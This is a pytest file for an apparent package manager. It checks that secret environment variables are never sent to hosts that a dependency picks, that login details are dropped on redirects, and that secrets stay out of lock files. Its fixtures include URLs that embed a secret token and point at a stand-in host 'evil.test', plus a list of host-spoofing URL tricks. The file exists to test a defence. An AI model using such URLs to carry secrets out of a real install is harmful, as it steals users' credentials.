"""A package can't have the installer's secrets sent to hosts of its own choice."""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from headrace.engine.core.errors import Location, PackageError
from headrace.engine.packages.package_entries import AnyEntry, GitEntry, HubEntry, TarballEntry
from headrace.engine.packages.secret_hosts import SecretHosts

from .support import (
    Web,
    deps,
    error_of,
    installed,
    package_archive,
    said,
    web_server,
    write_package,
)

WriteProject = Callable[[Mapping[str, str]], Path]

TOKEN = "{{ env_var('DBT_ENV_SECRET_TOKEN') }}"
ENVIRON = {"DBT_ENV_SECRET_TOKEN": "t0ken-t0ken", "DBT_ENV_SECRET_OTHER": "0ther-0ther"}
HERE = Location("packages.yml")


def with_token(web: Web, path: str, variable: str = "DBT_ENV_SECRET_TOKEN") -> str:
    return web.address.replace("http://", f"http://me:{{{{ env_var('{variable}') }}}}@") + path


def asks(*entries: str) -> str:
    return "packages:\n" + "".join(f"  - {{{entry}}}\n" for entry in entries)


@pytest.mark.parametrize(
    "entry",
    [
        f'tarball: "http://evil.test/{TOKEN}.tgz", name: x',
        f'tarball: "http://evil.test/?t={TOKEN}", name: x',
        f'tarball: "http://{TOKEN}.evil.test/x", name: x',
        f'git: "https://{TOKEN}@evil.test/x.git"',
        f'git: "ssh://git@evil.test/{TOKEN}.git"',
        f'git: "git@evil.test:{TOKEN}.git"',
        f'git: "https://evil.test/x.git", revision: "{TOKEN}"',
        f'git: "file://evil.test/{TOKEN}"',
        f'package: "evil/{TOKEN}", version: 1.0.0',
        f'package: evil/x, version: ["{TOKEN}"]',
    ],
)
@pytest.mark.parametrize("kind", ["local", "tarball"])
async def test_secret_that_a_package_asks_for_goes_nowhere(
    write_project: WriteProject, tmp_path: Path, entry: str, kind: str
) -> None:
    files = {"packages.yml": asks(entry)}
    write_package(tmp_path / "tools", "tools", files)
    (tmp_path / "tools.tgz").write_bytes(package_archive("tools", files))
    root = write_project(
        {
            "packages.yml": asks(
                "local: ../tools" if kind == "local" else "tarball: ../tools.tgz, name: tools"
            )
        }
    )

    ran = await deps(root, environ={**ENVIRON, "DBT_PACKAGE_HUB_URL": "http://127.0.0.1:9/"})

    message = error_of(ran)
    if "version: [" not in entry:  # what is no version is refused even before
        assert "package 'tools' would send DBT_ENV_SECRET_TOKEN to " in message
        assert "in your own packages.yml" in message
    assert "t0ken" not in repr(ran.events) + message
    assert installed(root) == []


async def test_secret_goes_where_the_project_itself_sends_it(
    write_project: WriteProject, web: Web, tmp_path: Path
) -> None:
    inner = {"packages.yml": asks(f'tarball: "{with_token(web, "inner.tgz")}", name: inner')}
    web.content["tools.tgz"] = package_archive("tools", inner)
    web.content["inner.tgz"] = package_archive("inner")
    root = write_project(
        {"packages.yml": asks(f'tarball: "{with_token(web, "tools.tgz")}", name: tools')}
    )

    first = await deps(root, environ=ENVIRON)
    by_lock = await deps(root, environ=ENVIRON)

    assert (first.exit_code, by_lock.exit_code) == (0, 0), said(first)
    assert installed(root) == ["inner", "tools"]
    expected = "Basic " + base64.b64encode(b"me:t0ken-t0ken").decode()
    assert [headers["Authorization"] for headers in web.headers] == [expected] * 4


@pytest.mark.parametrize("variable", ["DBT_ENV_SECRET_TOKEN", "DBT_ENV_SECRET_OTHER"])
async def test_another_host_or_another_secret_is_another_matter(
    write_project: WriteProject, web: Web, variable: str
) -> None:
    with web_server() as other:
        where = other if variable == "DBT_ENV_SECRET_TOKEN" else web
        inner = asks(f'tarball: "{with_token(where, "inner.tgz", variable)}", name: inner')
        web.content["tools.tgz"] = package_archive("tools", {"packages.yml": inner})
        other.content["inner.tgz"] = web.content["inner.tgz"] = package_archive("inner")
        root = write_project(
            {"packages.yml": asks(f'tarball: "{with_token(web, "tools.tgz")}", name: tools')}
        )

        message = error_of(await deps(root, environ=ENVIRON))

        assert f"would send {variable} to {where.address.rstrip('/')}, to which" in message
        assert (web.asked, other.asked) == (["tools.tgz"], [])
        assert installed(root) == []


async def test_lock_file_sends_no_secret_where_the_project_does_not(
    write_project: WriteProject, web: Web
) -> None:
    web.content["tools.tgz"] = package_archive("tools")
    asked = asks(f"tarball: {web.address}tools.tgz, name: tools")
    root = write_project({"packages.yml": asked})
    await deps(root, environ=ENVIRON)
    lock = root / "package-lock.yml"
    lock.write_text(
        lock.read_text().replace(
            f"tarball: {web.address}tools.tgz", f'tarball: "{with_token(web, "tools.tgz")}"'
        )
    )
    assert "env_var" in lock.read_text()
    web.asked.clear()

    message = error_of(await deps(root, environ=ENVIRON))

    assert message.startswith("package-lock.yml:")
    assert "package-lock.yml would send DBT_ENV_SECRET_TOKEN to http://127.0.0.1:" in message
    assert web.asked == []


async def test_login_is_not_sent_on_to_where_a_server_leads(
    write_project: WriteProject, web: Web
) -> None:
    with web_server() as other:
        web.redirections["tools.tgz"] = f"{other.address}tools.tgz"
        other.content["tools.tgz"] = package_archive("tools")
        root = write_project(
            {"packages.yml": asks(f'tarball: "{with_token(web, "tools.tgz")}", name: tools')}
        )

        ran = await deps(root, environ=ENVIRON)

        assert ran.exit_code == 0, said(ran)
        (asked,) = other.headers
        assert "t0ken" not in repr(asked)
        assert asked.keys().isdisjoint({"Authorization", "Referer", "Cookie"})


async def test_name_of_a_package_is_no_place_for_a_secret(
    write_project: WriteProject, tmp_path: Path
) -> None:
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "dbt_project.yml").write_text(f'name: "{TOKEN}"\nversion: "1"\n')
    root = write_project({"packages.yml": asks("local: ../tools")})

    ran = await deps(root, environ={"DBT_ENV_SECRET_TOKEN": "t0ken"})

    assert "Secret env vars are allowed only in profiles.yml or packages.yml" in error_of(ran)


async def test_lock_file_says_a_local_path_as_it_was_written(
    write_project: WriteProject, tmp_path: Path
) -> None:
    write_package(tmp_path / "t0ken-t0ken" / "tools", "tools")
    root = write_project({"packages.yml": asks(f'local: "../{TOKEN}/tools"')})

    first = await deps(root, environ=ENVIRON)
    by_lock = await deps(root, environ=ENVIRON)

    assert (first.exit_code, by_lock.exit_code) == (0, 0), said(first)
    assert "t0ken" not in (root / "package-lock.yml").read_text()


def git(address: str) -> GitEntry:
    return GitEntry(
        location=HERE, asked_by="x", address=address, written="", secrets=frozenset({"S"})
    )


@pytest.mark.parametrize(
    "address",
    [
        "https://good.test\\@evil.test/x",
        "https://good.test#@evil.test/x",
        "https://good.test?@evil.test/x",
        "https://good.test/@evil.test/../x\\..",
        "https://s@good.test@evil.test/x",
        "https://good.test:443@evil.test/x",
        "https://good.test.evil.test/x",
        "https://evil.test/good.test",
        "https://good.test%2eevil.test/x",
        "https://good.test:8443/x",
        "https://good.test\n.evil.test/x",
        "https://ｇood.test/x",
        "http://good.test/x",
        "ssh://good.test/x",
        "good.test:x",
        "https:good.test/x",
        "https:///good.test/x",
        "ext::https://good.test/x",
        "//good.test/x",
        "",
    ],
)
def test_address_that_only_looks_like_a_known_host_is_another(address: str) -> None:
    hosts = SecretHosts([git("https://user:pw@good.test/own.git")])

    for entry in (git("https://good.test/x"), git("https://other@GOOD.test/x?y")):
        hosts.check(entry)
    if address == "https://good.test#@evil.test/x" or address == "https://good.test?@evil.test/x":
        # Every program ends a host here; but who writes that has something in mind.
        return
    with pytest.raises(PackageError, match="would send S to "):
        hosts.check(git(address))


@pytest.mark.parametrize(
    ("own", "other"),
    [
        ("git@good.test:own.git", "me@good.test:other.git"),
        ("ssh://git@good.test/own.git", "ssh://good.test/other.git"),
        ("https://good.test:8443/own.git", "https://x@good.test:8443/other"),
        ("https://[::1]/own.git", "https://[::1]/other"),
    ],
)
def test_same_host_may_be_written_in_more_than_one_way(own: str, other: str) -> None:
    SecretHosts([git(own)]).check(git(other))


def test_hub_gets_a_secret_only_if_the_project_sends_it_there() -> None:
    def entry(kind: type[AnyEntry]) -> AnyEntry:
        more: dict[str, object] = (
            {"package": "a/b", "versions": ()}
            if kind is HubEntry
            else {"address": "http://good.test/x", "written": "", "name": "x"}
        )
        return kind(location=HERE, asked_by="x", secrets=frozenset({"S"}), **more)  # type: ignore[arg-type] # each has keys of its own

    SecretHosts([entry(HubEntry)]).check(entry(HubEntry))
    with pytest.raises(PackageError, match="would send S to the hub"):
        SecretHosts([entry(TarballEntry)]).check(entry(HubEntry))
